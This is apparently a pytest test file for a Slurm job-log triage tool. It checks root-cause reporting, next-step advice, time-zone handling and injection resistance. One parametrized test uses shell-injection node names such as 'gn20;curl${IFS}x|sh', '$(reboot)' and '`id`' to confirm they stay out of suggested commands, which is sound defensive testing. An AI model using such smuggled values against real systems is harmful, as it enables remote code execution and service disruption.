"""What is read first: nobody blamed who only waited, a next step that fits."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from typing import TYPE_CHECKING, Any

import pytest
from cases.triagecase import triage

if TYPE_CHECKING:
    from pathlib import Path


def ask(*lines: str) -> dict[str, Any]:
    return triage({"jobid": "7", "files": {"slurm-7.out": list(lines)}})


REFUSED = (
    "gang-start: step 7877.0 refused after 60 s: 1 of 2 nodes are not ready (1 nodes, "
    "8 tasks were)"
)


def test_a_refusal_is_told_once_and_its_report_can_be_asked_for_as_it_stands() -> None:
    log = [REFUSED, "  n007        ranks 8-15     never connected: slurmd is dead"]
    told = triage({"files": {"slurm.out": log}})

    first = told["text"].splitlines()[0]
    assert first.count("n007") == 2  # where, and because of whom
    assert "never connected: slurmd is dead" in first
    assert "  gangstart report 7877 " in told["text"]


@pytest.mark.parametrize(
    ("line", "not_said", "said"),
    [
        ("RuntimeError: bad batch", "place named above", "where the program says that"),
        ("slurmstepd: error: execve(): pyhton: No such file or directory", "{", "load"),
        ("OSError: [Errno 5] Input/output error: '/lustre/a.tar'", "{", "srun stat"),
        ("NVRM: Xid (PCI:0000:4e:00): 79, GPU has fallen off the bus.", "{", "--label"),
    ],
)
def test_what_to_do_next_fits_what_is_known(
    line: str, not_said: str, said: str
) -> None:
    told = ask(line, "srun: error: cn01: tasks 0-3: Exited with exit code 1")["text"]

    what_next = told.partition("\nnext\n")[2].partition("\n\n")[0]
    assert said in what_next
    assert not_said not in what_next


@pytest.mark.parametrize("name", ["gn20;curl${IFS}x|sh", "$(reboot)", "`id`", "a'b"])
def test_a_nodes_name_that_is_none_gets_into_no_command(name: str) -> None:
    told = ask(
        f"slurmstepd: error: *** STEP 7.0 ON {name} CANCELLED AT 2026-03-14T02:18:44 "
        "DUE TO NODE FAILURE, SEE SLURMCTLD LOG FOR DETAILS ***"
    )

    assert told["root_cause"] == "NODE_FAIL"
    assert told["node"] is None
    assert name not in told["text"].partition("\nnext\n")[2]


def test_whoever_was_ended_is_not_named_for_it() -> None:
    told = ask(
        "slurmstepd: error: *** JOB 7 ON cn01 CANCELLED AT 2026-11-24T04:00:00 DUE TO "
        "JOB DEADLINE ***"
    )

    assert (told["root_cause"], told["node"]) == ("UNKNOWN", None)
    assert "DUE TO JOB DEADLINE" in told["text"].splitlines()[0]


@pytest.mark.parametrize(
    ("zone", "minutes"), [("UTC0", 0), ("IST-5:30", 330), ("EST5", -300)]
)
def test_a_time_without_a_zone_is_this_machines(
    tmp_path: Path, zone: str, minutes: int
) -> None:
    """Slurm's records count from 1970; logs beside them are in local time."""
    end = 1_780_000_000
    local = datetime.fromtimestamp(end, timezone(timedelta(minutes=minutes), zone[:3]))
    log = tmp_path / "slurm-7.out"
    log.write_text(
        f"{local:%Y-%m-%d %H:%M:%S} ERROR rank 0: ValueError\n"
        "slurmstepd: error: *** JOB 7 ON cn01 CANCELLED AT "
        f"{local:%Y-%m-%dT%H:%M:%S} DUE TO TIME LIMIT ***\n"
    )
    words = ("-m", "gangstart", "triage", "--log", str(log))
    env = os.environ | {"TZ": zone}
    made = subprocess.run(
        [sys.executable, *words, "--json"], capture_output=True, env=env, check=True
    )
    shown = subprocess.run(
        [sys.executable, *words], capture_output=True, text=True, env=env, check=True
    )

    times = [one["time"] for one in json.loads(made.stdout)["timeline"]]
    assert times
    assert set(times) == {end}
    assert f"timeline ({local.tzname()})" in shown.stdout
    assert f"{local:%m-%d %H:%M:%S}" in shown.stdout


@pytest.mark.parametrize("zone", ["-12:00", "+14:00", ""])
@pytest.mark.parametrize("date", ["9999-12-31T23:59:59", "0001-01-01T00:00:00"])
def test_a_time_at_the_edge_of_the_calendar_gets_an_answer(
    date: str, zone: str
) -> None:
    told = ask(f"{date}{zone} ValueError: x", f"{date}{zone} RuntimeError: y")

    assert told["root_cause"] in {"APP_EXCEPTION", "UNKNOWN"}


def test_what_the_shell_says_of_a_killed_program_is_told_and_is_no_cause() -> None:
    told = ask(
        "/var/spool/slurmd/job7/slurm_script: line 14: 29918 Killed      python prep.py"
    )

    assert told["root_cause"] == "UNKNOWN"
    assert "29918 Killed" in told["text"].splitlines()[0]
    assert "who sent the signal" in told["text"]
